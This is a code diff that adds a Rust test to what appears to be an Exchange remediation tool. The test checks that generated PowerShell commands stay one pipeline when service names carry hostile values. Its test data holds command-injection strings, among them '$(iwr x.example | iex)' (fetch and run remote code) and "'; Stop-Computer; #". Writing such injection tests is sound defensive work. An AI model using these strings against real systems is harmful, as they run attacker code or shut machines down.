@@ -376,3 +376,105 @@ fn real_values_still_make_commands() {
         restore.withheld
     );
 }
+
+/// The same commands read by an independent PowerShell parser, tree-sitter-powershell (PyPI;
+/// `.ci/run` installs it): every command parses without error as one pipeline, and its
+/// single-quoted literals are exactly what the tokenizer above found. The grammar does not take
+/// U+2018–U+201B as quotes (PowerShell does), so this check leaves those to the tokenizer.
+#[test]
+fn an_independent_parser_reads_each_command_as_one_pipeline() {
+    if !support::have(
+        "python3",
+        &["-c", "import tree_sitter, tree_sitter_powershell"],
+    ) {
+        return;
+    }
+    let ascii_attacks = [
+        "MSExchangeIS",
+        "x' ; calc ; '",
+        "$(iwr x.example | iex)",
+        "a`nb",
+        "C:\\Temp\\MSI$(calc).LOG",
+        "powershell\" & calc & \"",
+        "*",
+        "# comment",
+        "'; Stop-Computer; #",
+    ];
+    let mut commands: Vec<String> = Vec::new();
+    for v in ascii_attacks {
+        let mut f = hostile(v);
+        for (s, b) in f.services.iter_mut().zip(&base().services) {
+            s.original_start = b.original_start.clone();
+        }
+        for sig in diagnoser().signatures() {
+            for done in [false, true] {
+                let (_, steps) = remediation::render(sig, &f, done);
+                commands.extend(steps.into_iter().flat_map(|s| s.powershell));
+            }
+        }
+    }
+    commands.sort();
+    commands.dedup();
+    let script = script::write("EXMBX01.contoso.local", &[base()]).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("commands.json");
+    std::fs::write(
+        &input,
+        serde_json::to_string(&serde_json::json!({"commands": commands, "script": script.text}))
+            .unwrap(),
+    )
+    .unwrap();
+    const READ: &str = r#"
+import json, sys
+import tree_sitter, tree_sitter_powershell
+parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_powershell.language()))
+doc = json.load(open(sys.argv[1], encoding="utf-8"))
+def walk(n):
+    yield n
+    for c in n.children:
+        yield from walk(c)
+def read(src):
+    tree = parser.parse(src.encode("utf-8"))
+    root = tree.root_node
+    nodes = list(walk(root))
+    lists = [n for n in root.children if n.type == "statement_list"]
+    top = [c for l in lists for c in l.children if c.is_named]
+    literals = [n.text.decode("utf-8")[1:-1].replace("''", "'") for n in nodes if n.type == "verbatim_string_characters"]
+    return {"error": root.has_error, "statements": len(top), "literals": literals}
+print(json.dumps({
+    "commands": [dict(read(c), text=c) for c in doc["commands"]],
+    "script": read(doc["script"]),
+}))
+"#;
+    let out = std::process::Command::new("python3")
+        .args(["-c", READ])
+        .arg(&input)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let parsed: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let results = parsed["commands"].as_array().unwrap();
+    assert!(results.len() > 40, "{} commands", results.len());
+    for r in results {
+        let text = r["text"].as_str().unwrap();
+        assert_eq!(r["error"], false, "tree-sitter cannot parse {text:?}");
+        assert_eq!(r["statements"], 1, "not one statement: {text:?}");
+        let tokens = tokenize(text).unwrap();
+        let ours: Vec<&str> = literals(&tokens);
+        let theirs: Vec<&str> = r["literals"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|l| l.as_str().unwrap())
+            .collect();
+        assert_eq!(ours, theirs, "the parsers disagree on {text:?}");
+    }
+    assert_eq!(
+        parsed["script"]["error"], false,
+        "the script does not parse"
+    );
+}
